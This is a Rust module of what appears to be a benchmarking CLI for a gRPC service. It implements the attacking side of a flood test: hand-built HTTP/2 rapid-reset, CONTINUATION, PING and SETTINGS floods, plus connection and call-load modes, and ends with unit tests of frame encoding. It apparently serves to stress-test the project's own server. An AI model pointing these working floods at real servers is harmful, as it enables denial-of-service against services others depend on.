//! The other side of `tranche bench flood`: one thread, one socket at a time, HTTP/2 by hand.

use std::io::{Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use clap::Args;

use super::Kind;
use crate::error::{CliError, Result};
use crate::exit;
use crate::output::line;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const GET: &str = "/tranche.v1.BatchService/GetBatch";
/// Frames, or pairs of them, in one write.
const AT_ONCE: u32 = 100;
/// Streams that a connection may open, with some to spare.
const STREAMS: u32 = 1 << 29;
/// How often it says what it did.
const SAID: Duration = Duration::from_millis(250);

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

#[derive(Clone, Debug, Args)]
pub(crate) struct AttackerArgs {
    address: SocketAddr,
    batch: String,
    #[arg(value_enum)]
    kind: Kind,
}

/// What was sent.
#[derive(Debug, Default)]
struct Sent {
    frames: AtomicU64,
    connections: AtomicU64,
}

/// Goes on until it is killed.
pub(crate) fn attack(args: &AttackerArgs) -> Result<i32> {
    let sent = Arc::new(Sent::default());
    line("attacking")?;
    let told = sent.clone();
    // The process ends with whoever started it, however that ended.
    std::thread::spawn(move || {
        loop {
            std::thread::sleep(SAID);
            let (frames, connections) =
                (told.frames.load(Ordering::Relaxed), told.connections.load(Ordering::Relaxed));
            if line(&format!("sent {frames} {connections}")).is_err() {
                std::process::exit(exit::OK);
            }
        }
    });
    if args.kind == Kind::Spin {
        loop {
            std::hint::spin_loop();
        }
    }
    loop {
        let connected = TcpStream::connect(args.address);
        let mut stream = connected.map_err(|e| CliError::caused("nobody listens", &e))?;
        sent.connections.fetch_add(1, Ordering::Relaxed);
        // It is closed from the other side: the next one.
        let _ = connection(&mut stream, args, &sent);
    }
}

fn connection(stream: &mut TcpStream, args: &AttackerArgs, sent: &Sent) -> std::io::Result<()> {
    stream.set_nodelay(true)?;
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat())?;
    let open = |stream, flags| frame(HEADERS, flags, stream, &headers());
    let fill = header("x-fill", &"f".repeat(4_000));
    let mut next = 1;
    let streams = |next: &mut u32| {
        let first = *next;
        *next += 2 * AT_ONCE;
        (0..AT_ONCE).map(move |n| first + 2 * n)
    };
    if args.kind == Kind::Continuation {
        stream.write_all(&open(1, 0))?;
    }
    while next < STREAMS {
        let (bytes, frames) = match args.kind {
            Kind::Spin => return Ok(()),
            Kind::Calls => return calls(stream, &args.batch, sent),
            Kind::Reset => {
                let pair = |stream| {
                    [open(stream, END_HEADERS), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
                };
                (streams(&mut next).flat_map(pair).collect::<Vec<_>>(), 2)
            }
            Kind::Continuation => (frame(CONTINUATION, 0, 1, &fill).repeat(AT_ONCE as usize), 1),
            Kind::Ping => (frame(PING, 0, 0, b"flooding").repeat(AT_ONCE as usize), 1),
            Kind::Settings => (frame(SETTINGS, 0, 0, &[]).repeat(AT_ONCE as usize), 1),
            Kind::Connect => {
                // Until the other side has begun, too.
                stream.read_exact(&mut [0; 9])?;
                return Ok(());
            }
        };
        stream.write_all(&bytes)?;
        sent.frames.fetch_add(u64::from(AT_ONCE * frames), Ordering::Relaxed);
    }
    Ok(())
}

/// Calls as they should be, as many as there may be at once, and their answers.
fn calls(stream: &mut TcpStream, batch: &str, sent: &Sent) -> std::io::Result<()> {
    let mut message = vec![0, 0, 0, 0, batch.len() as u8 + 2, 0x0a, batch.len() as u8];
    message.extend(batch.as_bytes());
    let mut next = 1;
    let mut answer = vec![0; 1 << 14];
    while next < STREAMS {
        let first = next;
        next += 2 * AT_ONCE;
        let call = |stream| {
            let open = frame(HEADERS, END_HEADERS, stream, &headers());
            [open, frame(DATA, END_STREAM, stream, &message)].concat()
        };
        let bytes: Vec<u8> = (first..next).step_by(2).flat_map(call).collect();
        stream.write_all(&bytes)?;
        let (mut ended, mut read) = (0, 0_u32);
        while ended < AT_ONCE {
            let mut head = [0; 9];
            stream.read_exact(&mut head)?;
            let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
            answer.resize(length as usize, 0);
            stream.read_exact(&mut answer)?;
            read += if head[3] == DATA { length } else { 0 };
            ended += u32::from(head[3] == HEADERS && head[4] & END_STREAM != 0);
            if head[3] == PING && head[4] == 0 {
                stream.write_all(&frame(PING, 1, 0, &answer))?;
            }
        }
        if read > 0 {
            stream.write_all(&frame(WINDOW_UPDATE, 0, 0, &read.to_be_bytes()))?;
        }
        sent.frames.fetch_add(u64::from(2 * AT_ONCE), Ordering::Relaxed);
    }
    Ok(())
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut bytes = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

fn headers() -> Vec<u8> {
    [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", GET),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    .iter()
    .flat_map(|(name, value)| header(name, value))
    .collect()
}

/// HPACK, without a table and without Huffman's code.
fn header(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = vec![0];
    for text in [name, value] {
        let mut left = text.len();
        if left < 127 {
            bytes.push(left as u8);
        } else {
            bytes.push(127);
            left -= 127;
            while left >= 128 {
                bytes.push((left % 128) as u8 | 128);
                left /= 128;
            }
            bytes.push(left as u8);
        }
        bytes.extend(text.as_bytes());
    }
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_what_the_rfc_says() {
        assert_eq!(frame(PING, 0, 0, b"12345678")[..9], [0, 0, 8, 6, 0, 0, 0, 0, 0]);
        assert_eq!(header("te", "trailers"), b"\0\x02te\x08trailers");
        // RFC 7541, C.1.2: 1337 in five bits; here 1337 in seven.
        assert_eq!(header("", &"x".repeat(1337))[2..5], [127, 0xba, 0x09]);
    }
}
